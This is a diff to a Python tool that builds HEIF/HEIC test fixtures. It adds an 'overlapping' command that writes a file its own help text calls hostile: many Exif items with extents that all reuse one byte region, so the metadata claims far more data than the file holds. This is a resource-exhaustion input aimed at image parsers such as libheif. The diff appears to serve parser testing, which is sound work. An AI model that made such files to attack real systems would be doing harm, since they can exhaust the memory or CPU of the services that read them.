@@ -14,6 +14,10 @@ Standard library only (ctypes for Little CMS in `icc`). Used by make-format-fixt
       item ID 1, the primary ID 2, so the depth item is listed first
   heif_boxes.py icc DIR
       writes DIR/display-p3.icc and DIR/srgb.icc made by Little CMS (liblcms2.so.2)
+  heif_boxes.py overlapping IN.heic OUT.heic N REGION EXTENTS
+      a hostile file: the primary image of IN.heic plus N Exif items describing it, each made of EXTENTS
+      extents over the same REGION bytes (zeros after a TIFF header), so that the items claim
+      N x EXTENTS x REGION bytes of a file that holds REGION once (a review found libheif 1.15 reads them all)
 
 The input files are parsed (ftyp, meta: pitm, iloc, iinf, iref, iprp) and written back as
 ftyp + meta (hdlr, pitm, iloc, iinf, iref, iprp(ipco + ipma), idat) + mdat.
@@ -315,6 +319,35 @@ def make_icc(directory):
     save(lcms.cmsCreate_sRGBProfile(), "sRGB IEC61966-2.1", f"{directory}/srgb.icc")
 
 
+def make_overlapping(src_path, out, n, region, extents):
+    src = parse(src_path)
+    prim = src["items"][src["primary"]]
+    ipco = [p for p, e in prim["props"]]
+    ipma = struct.pack(">I", 1) + struct.pack(">HB", 1, len(ipco)) + bytes((0x80 if e else 0) | (k + 1) for k, (p, e) in enumerate(prim["props"]))
+    iprp = box("iprp", box("ipco", b"".join(ipco)) + fullbox("ipma", 0, 0, ipma))
+    infes = [fullbox("infe", 2, 0, struct.pack(">HH4s", 1, 0, prim["type"].encode("latin-1")) + b"\0")]
+    infes += [fullbox("infe", 2, 1, struct.pack(">HH4s", 2 + i, 0, b"Exif") + b"\0") for i in range(n)]
+    iinf = fullbox("iinf", 0, 0, struct.pack(">H", len(infes)) + b"".join(infes))
+    iref = fullbox("iref", 0, 0, b"".join(box("cdsc", struct.pack(">HHH", 2 + i, 1, 1)) for i in range(n)))
+    hdlr = fullbox("hdlr", 0, 0, struct.pack(">I4s12x", 0, b"pict") + b"\0")
+    pitm = fullbox("pitm", 0, 0, struct.pack(">H", 1))
+
+    def iloc(mdat_start):
+        body = struct.pack(">BBH", 0x44, 0x00, 1 + n)
+        body += struct.pack(">HHHII", 1, 0, 1, mdat_start, len(prim["data"]))
+        region_start = mdat_start + len(prim["data"])
+        for i in range(n):
+            body += struct.pack(">HHH", 2 + i, 0, extents) + struct.pack(">II", region_start, region) * extents
+        return fullbox("iloc", 0, 0, body)
+
+    ftyp = box("ftyp", src["brands"][:8] + b"mif1heic")
+    meta = lambda start: fullbox("meta", 0, 0, hdlr + pitm + iloc(start) + iinf + iref + iprp)
+    start = len(ftyp) + len(meta(0)) + 8
+    exif = b"\0\0\0\0MM\0\x2a\0\0\0\x08\0\0"
+    with open(out, "wb") as f:
+        f.write(ftyp + meta(start) + box("mdat", prim["data"] + exif + b"\0" * (region - len(exif))))
+
+
 def main(argv):
     cmd = argv[1]
     if cmd == "grid":
@@ -324,6 +357,8 @@ def main(argv):
         make_irot(argv[2], argv[3], int(argv[4]))
     elif cmd == "depth":
         make_depth(argv[2], argv[3], argv[4])
+    elif cmd == "overlapping":
+        make_overlapping(argv[2], argv[3], int(argv[4]), int(argv[5]), int(argv[6]))
     elif cmd == "icc":
         make_icc(argv[2])
     else:
